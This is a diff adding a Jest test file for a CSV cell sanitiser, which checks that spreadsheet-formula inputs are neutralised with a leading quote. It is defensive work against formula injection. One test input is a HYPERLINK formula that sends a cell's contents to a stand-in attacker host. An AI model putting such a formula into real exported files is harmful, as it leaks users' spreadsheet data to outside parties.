@@ -1,0 +1,25 @@
+import { csvCell } from './csv-cell';
+
+describe('csvCell', () => {
+  it('neutralises cells a spreadsheet would run as formulas', () => {
+    for (const formula of [
+      '=HYPERLINK("https://evil.example/?"&A1,"click")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1:A2)',
+      '\t=1+1',
+      '\r=1+1',
+    ]) {
+      expect(csvCell(formula)).toBe(`'${formula}`);
+    }
+  });
+
+  it('leaves everything else as it is', () => {
+    expect(csvCell('Mozilla/5.0 (X11; Linux x86_64)')).toBe('Mozilla/5.0 (X11; Linux x86_64)');
+    expect(csvCell('a=b')).toBe('a=b');
+    expect(csvCell('::1')).toBe('::1');
+    expect(csvCell('{"before":null}')).toBe('{"before":null}');
+    expect(csvCell(null)).toBe('');
+    expect(csvCell(42)).toBe('42');
+  });
+});
